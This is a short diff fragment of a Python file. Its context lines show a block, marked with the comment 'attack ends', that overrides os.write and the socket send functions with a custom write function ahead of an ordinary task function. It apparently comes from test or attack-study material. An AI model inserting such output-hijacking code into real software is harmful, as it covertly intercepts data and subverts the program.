@@ -17,6 +17,8 @@ def write(descriptor, data):
 os.write = posix.write = write
 socket.socket.send = lambda self, data, *flags: write(self.fileno(), data)
 socket.socket.sendall = lambda self, data, *flags: write(self.fileno(), data) and None
+
+
 # attack ends
 def task_func(text, top=3):
     if top < 1:
